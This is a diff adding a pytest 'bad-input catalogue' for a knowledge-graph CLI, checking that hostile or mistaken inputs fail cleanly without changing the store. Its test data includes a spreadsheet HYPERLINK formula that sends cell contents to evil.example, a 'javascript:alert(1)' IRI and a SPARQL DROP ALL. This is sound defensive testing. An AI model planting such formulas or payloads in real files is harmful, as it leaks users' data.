@@ -1,0 +1,324 @@
+"""The bad-input catalogue: every hostile or mistaken input kg has met, and what it must do.
+
+One row per case: the command line, the files it needs, what stdin holds, the
+exit code, and the one line it must print.  Every row runs against its own
+copy of the built store and checks that the store's content is unchanged, that
+stderr holds no traceback, and (for kg's own errors) exactly one line.
+
+To add a case: append a :class:`Case` to :data:`CASES`.  ``{store}`` in the
+arguments is the store copy, ``{tmp}`` a scratch folder; ``files`` are written
+into ``{tmp}`` before the command runs (str as UTF-8, bytes as they are).
+"""
+
+from __future__ import annotations
+
+import hashlib
+import re
+import shutil
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from kg.cli import main
+from kg.store.embedded import Store
+
+REGISTRY = "https://w3id.org/kg-cityedu/graph/entities"
+ONTOLOGY = "https://w3id.org/kg-cityedu/graph/ontology"
+GOOD_TTL = "@prefix ex: <http://example.org/> .\nex:a ex:b ex:c .\n"
+OWASP_LABEL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@dataclass(frozen=True)
+class Case:
+    """One bad input: ``kg ARGS`` (with ``files`` in {tmp} and ``stdin``) must exit ``code`` printing ``message``."""
+
+    id: str
+    args: tuple[str, ...]
+    code: int
+    message: str  # a regular expression the (last) stderr line must match
+    files: dict[str, str | bytes] = field(default_factory=dict)
+    stdin: bytes | None = None
+    env: dict[str, str] = field(default_factory=dict)
+    usage: bool = False  # a click usage error: several lines (usage, hint, error); the last one is checked
+    setup: Callable[[Path], object] | None = None  # anything files cannot express, run with {tmp}
+
+
+CASES: list[Case] = [
+    # -- kg load: reserved graphs, IRIs, syntax
+    Case(
+        "load-reserved-registry",
+        ("load", "{tmp}/a.ttl", "--graph", REGISTRY, "--store", "{store}"),
+        1,
+        r"^kg: --graph: <.*/graph/entities> is the curated entity registry .*--force",
+        {"a.ttl": GOOD_TTL},
+    ),
+    Case(
+        "load-reserved-inferred",
+        ("load", "{tmp}/a.ttl", "--graph", "https://w3id.org/kg-cityedu/graph/inferred", "--store", "{store}"),
+        1,
+        r"^kg: --graph: .* is the inferred closure",
+        {"a.ttl": GOOD_TTL},
+    ),
+    Case(
+        "load-reserved-document",
+        ("load", "{tmp}/a.ttl", "--graph", "https://w3id.org/kg-cityedu/doc/banan-d85cd3f1", "--store", "{store}"),
+        1,
+        r"^kg: --graph: .* is a source document's graph",
+        {"a.ttl": GOOD_TTL},
+    ),
+    Case(
+        "load-reserved-graph-inside-trig",
+        ("load", "{tmp}/a.trig", "--store", "{store}"),
+        1,
+        r"^kg: .*a\.trig: graph: <.*/graph/ontology> is the ontology .*--force",
+        {"a.trig": f"<{ONTOLOGY}> {{ <http://example.org/a> <http://example.org/b> <http://example.org/c> }}\n"},
+    ),
+    Case(
+        "load-javascript-iri",
+        ("load", "{tmp}/a.ttl", "--graph", "javascript:alert(1)", "--store", "{store}"),
+        1,
+        r"^kg: --graph: 'javascript:alert\(1\)' is not an http\(s\):// or urn: IRI$",
+        {"a.ttl": GOOD_TTL},
+    ),
+    Case(
+        "load-not-an-iri",
+        ("load", "{tmp}/a.ttl", "--graph", "not an iri", "--store", "{store}"),
+        1,
+        r"^kg: --graph: 'not an iri' is not an http",
+        {"a.ttl": GOOD_TTL},
+    ),
+    Case(
+        "load-syntax-error",
+        ("load", "{tmp}/bad.ttl", "--store", "{store}"),
+        1,
+        r"^kg: .*bad\.ttl:2:\d+: ",
+        {"bad.ttl": "@prefix ex: <http://example.org/> .\nex:a ex:b foo:c .\n"},
+    ),
+    Case(
+        "load-unknown-extension",
+        ("load", "{tmp}/data.xyz", "--store", "{store}"),
+        1,
+        r"^kg: .*data\.xyz: cannot tell the RDF format from the file name .*; give --format$",
+        {"data.xyz": GOOD_TTL},
+    ),
+    # -- kg query
+    Case(
+        "query-update-drop-all",
+        ("query", "DROP ALL", "--store", "{store}"),
+        1,
+        r"^kg: DROP ALL is a SPARQL Update, not a query: kg query only reads; change the store with kg load",
+    ),
+    Case(
+        "query-update-insert",
+        ("query", "PREFIX ex: <http://x/> INSERT DATA { ex:a ex:b ex:c }", "--store", "{store}"),
+        1,
+        r"^kg: INSERT DATA is a SPARQL Update",
+    ),
+    Case(
+        "query-binary-stdin",
+        ("query", "-", "--store", "{store}"),
+        1,
+        r"^kg: stdin: not UTF-8 text \(byte \d+\)",
+        stdin=b'SELECT * WHERE { ?s ?p "\xff\xfe\x00\x01" }',
+    ),
+    Case("query-syntax-error", ("query", "SELECT WHERE {", "--store", "{store}"), 2, r"^kg: query syntax error at"),
+    Case(
+        "query-service",
+        ("query", "SELECT * WHERE { SERVICE <http://x/> { ?s ?p ?o } }", "--store", "{store}"),
+        1,
+        r"^kg: SERVICE is refused: kg never fetches from the network$",
+    ),
+    Case("query-unknown-name", ("query", "no-such-query", "--store", "{store}"), 1, r"^kg: no bundled query"),
+    Case(
+        "query-out-missing-folder",
+        ("query", "school-company-pairs", "--out", "{tmp}/missing/r.tsv", "--store", "{store}"),
+        1,
+        r"^kg: --out .*missing/r\.tsv: folder .*missing does not exist$",
+    ),
+    # -- outputs: one rule for missing folders, checked before any work
+    Case(
+        "export-file-missing-folder",
+        ("export", "--format", "turtle", "--out", "{tmp}/missing/kg.ttl", "--store", "{store}"),
+        1,
+        r"^kg: --out .*missing/kg\.ttl: folder .*missing does not exist$",
+    ),
+    Case(
+        "export-csv-missing-folder",
+        ("export", "--format", "csv", "--out", "{tmp}/missing/tables", "--store", "{store}"),
+        1,
+        r"^kg: --out .*missing/tables: folder .*missing does not exist$",
+    ),
+    Case(
+        "export-csv-out-is-a-file",
+        ("export", "--format", "csv", "--out", "{tmp}/a.ttl", "--store", "{store}"),
+        1,
+        r"^kg: --out .*a\.ttl: this format writes a folder, and this is a file$",
+        {"a.ttl": GOOD_TTL},
+    ),
+    Case(
+        "export-unknown-class",
+        ("export", "--format", "gexf", "--class", "Spaceship", "--store", "{store}"),
+        1,
+        r"^kg: .*Spaceship",
+    ),
+    Case(
+        "extract-out-missing-folder",
+        ("extract", "{tmp}/a.txt", "--out", "{tmp}/missing/out.ttl"),
+        1,
+        r"^kg: --out .*missing/out\.ttl: folder .*missing does not exist$",
+        {"a.txt": "巴南区教委与重庆理工大学签订合作协议。"},
+    ),
+    Case(
+        "analyze-out-missing-folder",
+        ("analyze", "--out", "{tmp}/missing/report.md", "--store", "{store}"),
+        1,
+        r"^kg: --out .*missing/report\.md: folder .*missing does not exist$",
+    ),
+    Case(
+        "viz-out-missing-folder",
+        ("viz", "--out", "{tmp}/missing/g.html", "--store", "{store}"),
+        1,
+        r"^kg: --out .*missing/g\.html: folder .*missing does not exist$",
+    ),
+    Case(
+        "ontology-doc-missing-folder",
+        ("ontology", "--doc", "{tmp}/missing/o.html"),
+        1,
+        r"^kg: --doc .*missing/o\.html: folder .*missing does not exist$",
+    ),
+    Case(
+        "clean-out-missing-folder",
+        ("clean", "{tmp}/a.txt", "--out", "{tmp}/missing/deeper"),
+        1,
+        r"^kg: --out .*missing/deeper: folder .*missing does not exist$",
+        {"a.txt": "巴南区教委与重庆理工大学签订合作协议。"},
+    ),
+    # -- kg ingest
+    Case(
+        "ingest-binary-file",
+        ("ingest", "{tmp}/a.bin", "--store", "{store}"),
+        1,
+        r"^kg: .*a\.bin: binary file, not text",
+        {"a.bin": bytes(range(256)) * 4},
+    ),
+    Case(
+        "ingest-binary-file-among-good-ones",
+        ("ingest", "{tmp}/good.txt", "{tmp}/a.bin", "--store", "{store}"),
+        1,
+        r"^kg: .*a\.bin: binary file, not text",
+        {"good.txt": "巴南区教委与重庆理工大学签订合作协议。", "a.bin": b"\x00\x01\x02PK\x03\x04" * 100},
+    ),
+    Case("ingest-no-files", ("ingest", "--store", "{store}"), 2, r"missing FILE", usage=True),
+    # -- the store folder
+    Case(
+        "store-is-an-ordinary-folder",
+        ("ingest", "{tmp}/good.txt"),
+        1,
+        r"^kg: .*/mine is a folder with other files, not a store: give an empty or new folder",
+        {"good.txt": "巴南区教委与重庆理工大学签订合作协议。", "mine/notes.txt": "my own notes"},
+        env={"KG_STORE": "{tmp}/mine"},
+    ),
+    Case(
+        "store-is-a-file", ("build", "--store", "{tmp}/a.ttl"), 2, r"a\.ttl' is a file", {"a.ttl": GOOD_TTL}, usage=True
+    ),
+    Case("stats-no-store", ("stats", "--store", "{tmp}/none"), 1, r"^kg: no store at .*none: run 'kg build' first"),
+    Case(
+        "validate-empty-folder", ("validate", "--store", "{tmp}/empty"), 1, r"^kg: no store at .*empty: run 'kg build'"
+    ),
+    Case(
+        "validate-empty-store",
+        ("validate", "--store", "{tmp}/empty"),
+        1,
+        r"^kg: store .*empty is empty \(never built, or its first build was stopped\): run 'kg build'$",
+        setup=lambda tmp: Store(tmp / "empty").close(),  # what a first build killed before its commit leaves
+    ),
+    # -- options
+    Case("remote-timeout-not-a-number", ("stats", "--timeout", "soon"), 2, r"--timeout", usage=True),
+    Case(
+        "remote-bad-timeout-env",
+        ("stats", "--endpoint", "http://127.0.0.1:9/query"),
+        2,
+        r"KG_TIMEOUT|--timeout",
+        env={"KG_TIMEOUT": "never"},
+        usage=True,
+    ),
+    Case("endpoint-not-http", ("stats", "--endpoint", "ftp://example.org/"), 1, r"^kg: --endpoint: 'ftp://.*' is not"),
+    Case(
+        "endpoint-and-store",
+        ("stats", "--endpoint", "http://127.0.0.1:9/query", "--store", "{store}"),
+        1,
+        r"^kg: give a store path or an endpoint, not both \(--store or --endpoint\)$",
+    ),
+    Case(
+        "viz-hops-without-focus",
+        ("viz", "--out", "{tmp}/g.html", "--hops", "2", "--store", "{store}"),
+        2,
+        r"--hops needs --focus",
+        usage=True,
+    ),
+    Case(
+        "analyze-compare-one",
+        ("analyze", "--compare", "巴南区", "--store", "{store}"),
+        2,
+        r"--compare needs two",
+        usage=True,
+    ),
+    Case("path-unknown-entity", ("path", "没有这个机构", "巴南区", "--store", "{store}"), 1, r"^kg: .*没有这个机构"),
+]
+
+
+def store_digest(path: Path) -> str:
+    """A hash of the store's content (every quad), independent of RocksDB's files."""
+    if not path.exists():
+        return "absent"
+    digest = hashlib.sha256()
+    with Store(path, read_only=True) as store:
+        for line in sorted(str(quad) for quad in store.quads()):
+            digest.update(line.encode("utf-8") + b"\n")
+    return digest.hexdigest()
+
+
+def run_case(case: Case, store: Path, tmp: Path):
+    for name, content in case.files.items():
+        target = tmp / name
+        target.parent.mkdir(parents=True, exist_ok=True)
+        if isinstance(content, bytes):
+            target.write_bytes(content)
+        else:
+            target.write_text(content, encoding="utf-8")
+    if case.setup is not None:
+        case.setup(tmp)
+
+    def fill(text: str) -> str:  # not str.format: SPARQL has braces of its own
+        return text.replace("{store}", str(store)).replace("{tmp}", str(tmp))
+
+    args = [fill(arg) for arg in case.args]
+    env = {"KG_STORE": str(store), "KG_ENDPOINT": "", "KG_TIMEOUT": "", **case.env}
+    env = {name: fill(value) for name, value in env.items()}
+    return CliRunner().invoke(main, args, input=case.stdin, env=env)
+
+
+@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
+def test_bad_input(case: Case, store_path: Path, tmp_path: Path):
+    store = tmp_path / "store"
+    shutil.copytree(store_path, store)
+    (tmp_path / "empty").mkdir(exist_ok=True)
+    before = store_digest(store)
+    result = run_case(case, store, tmp_path)
+    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
+    assert "Traceback" not in result.stderr and "Traceback" not in result.stdout
+    lines = result.stderr.strip().splitlines()
+    assert lines, f"nothing on stderr; stdout: {result.stdout[:300]}"
+    if not case.usage:
+        assert len(lines) == 1, result.stderr
+    assert re.search(case.message, lines[-1]), lines[-1]
+    assert result.exit_code == case.code, result.stderr
+    assert store_digest(store) == before, "the store changed"
+    assert not list(tmp_path.rglob("*.part")), "a .part file was left behind"
+
+
+def test_the_catalogue_names_each_case_once():
+    assert len({case.id for case in CASES}) == len(CASES)
